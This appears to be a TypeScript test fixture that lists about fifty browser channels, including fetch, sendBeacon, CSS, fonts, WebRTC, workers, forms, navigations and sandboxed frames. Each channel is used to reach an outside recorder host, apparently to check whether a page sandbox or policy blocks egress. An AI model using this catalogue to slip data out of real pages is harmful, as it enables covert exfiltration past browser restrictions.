/** Where a page tries to send something: see `Recorder`. */
export interface Aimed {
  readonly to: string
  readonly tcp: string
  readonly stun: string
  readonly quic: string
}

/** A way out of a page: its name, what a reader calls it, and what a page does for it. */
export interface Attempt {
  readonly name: string
  readonly says: string
  /** A script of the page; `to`, `tcp`, `stun`, `quic` and `put` (html into the body) are there. */
  readonly script: string
  /** It takes the tab elsewhere or opens another, and so has a page of its own. */
  readonly moves?: true
}

const inFrame = (attributes: string, inside: string) =>
  `put('<iframe ${attributes}></iframe>').srcdoc = '<script>' + ${JSON.stringify(inside)}.replaceAll('TO', to) + '<' + '/script>'`

/** Names are what `/x/NAME` ends with; what arrives elsewhere is told by the recorder. */
export const ATTEMPTS: readonly Attempt[] = [
  { name: 'fetch-cors', says: '`fetch`', script: "fetch(to + '/x/fetch-cors')" },
  {
    name: 'fetch-preflight',
    says: '`fetch` with a preflight',
    script: "fetch(to + '/x/fetch-preflight', { method: 'PUT', headers: { 'x-data': '1' } })"
  },
  {
    name: 'fetch-no-cors',
    says: '`fetch`, `no-cors`',
    script: "fetch(to + '/x/fetch-no-cors', { mode: 'no-cors', method: 'POST', body: 'data' })"
  },
  {
    name: 'fetch-keepalive',
    says: '`fetch`, `keepalive`',
    script: "fetch(to + '/x/fetch-keepalive', { keepalive: true, method: 'POST', body: 'data' })"
  },
  {
    name: 'fetch-later',
    says: '`fetchLater`',
    script: "globalThis.fetchLater?.(to + '/x/fetch-later', { activateAfter: 0 })"
  },
  {
    name: 'xhr',
    says: '`XMLHttpRequest`',
    script: "const x = new XMLHttpRequest(); x.open('GET', to + '/x/xhr'); x.send()"
  },
  { name: 'beacon', says: '`sendBeacon`', script: "navigator.sendBeacon(to + '/x/beacon', 'data')" },
  {
    name: 'redirect',
    says: 'a redirect from a declared origin',
    script: "fetch('/redirect?to=' + encodeURIComponent(to + '/x/redirect'), { mode: 'no-cors' })"
  },
  { name: 'image', says: 'image', script: "new Image().src = to + '/x/image'" },
  { name: 'srcset', says: '`srcset`', script: "put('<img srcset=\"' + to + '/x/srcset 1x\">')" },
  {
    name: 'css-background',
    says: 'CSS background',
    script: "put('<p style=\"background: url(' + to + '/x/css-background)\">p')"
  },
  {
    name: 'css-import',
    says: 'CSS `@import`',
    script: "put('<style>@import url(' + to + '/x/css-import.css)</style>')"
  },
  { name: 'stylesheet', says: 'style sheet', script: "put('<link rel=stylesheet href=' + to + '/x/stylesheet.css>')" },
  {
    name: 'font',
    says: 'font',
    script: "new FontFace('f', 'url(' + to + '/x/font)').load().catch(() => 0)"
  },
  {
    name: 'script',
    says: 'script',
    script: "document.head.append(Object.assign(document.createElement('script'), { src: to + '/x/script.js' }))"
  },
  { name: 'module', says: 'module, by `import()`', script: "import(to + '/x/module.js').catch(() => 0)" },
  { name: 'video', says: 'video', script: "put('<video preload=auto src=' + to + '/x/video></video>')" },
  { name: 'poster', says: 'poster of a video', script: "put('<video poster=' + to + '/x/poster></video>')" },
  {
    name: 'track',
    says: 'text track',
    script:
      "put('<video src=/none crossorigin><track default src=' + to + '/x/track.vtt></video>').querySelector('track').track.mode = 'showing'"
  },
  { name: 'object', says: '`object`', script: "put('<object data=' + to + '/x/object.html></object>')" },
  { name: 'embed', says: '`embed`', script: "put('<embed src=' + to + '/x/embed.html>')" },
  { name: 'iframe', says: 'frame', script: "put('<iframe src=' + to + '/x/iframe.html></iframe>')" },
  {
    name: 'srcdoc',
    says: '`fetch` in a `srcdoc` frame',
    script: inFrame('', "fetch('TO/x/srcdoc', { mode: 'no-cors' })")
  },
  {
    name: 'sandboxed',
    says: '`fetch` in a sandboxed frame',
    script: inFrame('sandbox=allow-scripts', "fetch('TO/x/sandboxed', { mode: 'no-cors' })")
  },
  { name: 'prefetch', says: '`prefetch`', script: "put('<link rel=prefetch href=' + to + '/x/prefetch>')" },
  { name: 'preload', says: '`preload`', script: "put('<link rel=preload as=image href=' + to + '/x/preload>')" },
  {
    name: 'modulepreload',
    says: '`modulepreload`',
    script: "put('<link rel=modulepreload href=' + to + '/x/modulepreload.js>')"
  },
  {
    name: 'speculation',
    says: 'speculation rules',
    script:
      "document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [to + '/x/speculation'], eagerness: 'immediate' }] }) }))"
  },
  {
    name: 'preconnect',
    says: '`preconnect` (a connection, no request)',
    script: "put('<link rel=preconnect href=http://' + tcp + '>')"
  },
  {
    name: 'ping',
    says: '`ping` of a link',
    script: 'put(\'<a href="#here" ping="\' + to + \'/x/ping">a</a>\').firstChild.click()'
  },
  {
    name: 'form-in-frame',
    says: 'form into a frame',
    script:
      "put('<iframe name=into></iframe><form target=into method=post action=' + to + '/x/form-in-frame></form>').querySelector('form').submit()"
  },
  { name: 'websocket', says: 'WebSocket', script: "new WebSocket(to.replace('http', 'ws') + '/x/websocket')" },
  { name: 'event-source', says: 'EventSource', script: "new EventSource(to + '/x/event-source.sse')" },
  {
    name: 'webtransport',
    says: 'WebTransport',
    script: "new WebTransport('https://' + quic + '/x').ready.catch(() => 0)"
  },
  {
    name: 'webrtc',
    says: 'WebRTC',
    script:
      "const rtc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + stun }] }); rtc.createDataChannel('d'); rtc.createOffer().then((offer) => rtc.setLocalDescription(offer))"
  },
  {
    name: 'worker',
    says: '`fetch` in a worker',
    script: "new Worker('/worker.js').postMessage(to + '/x/worker')"
  },
  {
    name: 'shared-worker',
    says: '`fetch` in a shared worker',
    script: "new SharedWorker('/worker.js').port.postMessage(to + '/x/shared-worker')"
  },
  {
    name: 'service-worker',
    says: '`fetch` in a service worker',
    script:
      "navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(({ active }) => active.postMessage(to + '/x/service-worker'))"
  },
  {
    name: 'csp-report',
    says: 'report of a content security policy',
    script: "put('<iframe src=\"/csp?to=' + encodeURIComponent(to + '/x/csp-report') + '\"></iframe>')"
  },
  { name: 'location', says: 'navigation by script', script: "location.href = to + '/x/location.html'", moves: true },
  {
    name: 'meta-refresh',
    says: 'navigation by `meta refresh`',
    script:
      "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + to + '/x/meta-refresh.html' }))",
    moves: true
  },
  {
    name: 'link',
    says: 'a link that is clicked',
    script: "put('<a href=' + to + '/x/link.html>a</a>').firstChild.click()",
    moves: true
  },
  {
    name: 'form-get',
    says: 'a form, GET',
    script: "put('<form action=' + to + '/x/form-get.html><input name=a value=data></form>').firstChild.submit()",
    moves: true
  },
  {
    name: 'form-post',
    says: 'a form, POST',
    script:
      "put('<form method=post action=' + to + '/x/form-post.html><input name=a value=data></form>').firstChild.submit()",
    moves: true
  },
  {
    name: 'redirected-navigation',
    says: 'navigation by a redirect of a declared origin',
    script: "location.href = '/redirect?to=' + encodeURIComponent(to + '/x/redirected-navigation.html')",
    moves: true
  },
  { name: 'window-open', says: 'a new tab, by script', script: "open(to + '/x/window-open.html')", moves: true },
  {
    name: 'window-noopener',
    says: 'a new tab, by script, `noopener`',
    script: "open(to + '/x/window-noopener.html', '_blank', 'noopener')",
    moves: true
  },
  {
    name: 'blank-link',
    says: 'a new tab, by a link with `target=_blank`',
    script: "put('<a target=_blank href=' + to + '/x/blank-link.html>a</a>').firstChild.click()",
    moves: true
  },
  {
    name: 'blank-window',
    says: '`fetch` by a new, blank tab',
    script: "const w = open('about:blank'); w?.fetch(to + '/x/blank-window', { mode: 'no-cors' })",
    moves: true
  },
  {
    name: 'opened-page',
    says: '`fetch` by a page of the site in a new tab',
    script: "open('/later?to=' + encodeURIComponent(to + '/x/opened-page'))",
    moves: true
  },
  {
    name: 'opaque-window',
    says: 'a new tab, from a sandboxed frame',
    script: inFrame(
      "sandbox='allow-scripts allow-popups allow-popups-to-escape-sandbox'".replaceAll("'", '\\u0022'),
      "open('TO/x/opaque-window.html')"
    ),
    moves: true
  },
  {
    name: 'unload',
    says: '`sendBeacon` as the page goes',
    script: "addEventListener('pagehide', () => navigator.sendBeacon(to + '/x/unload', 'data')); location.href = '/'",
    moves: true
  }
]
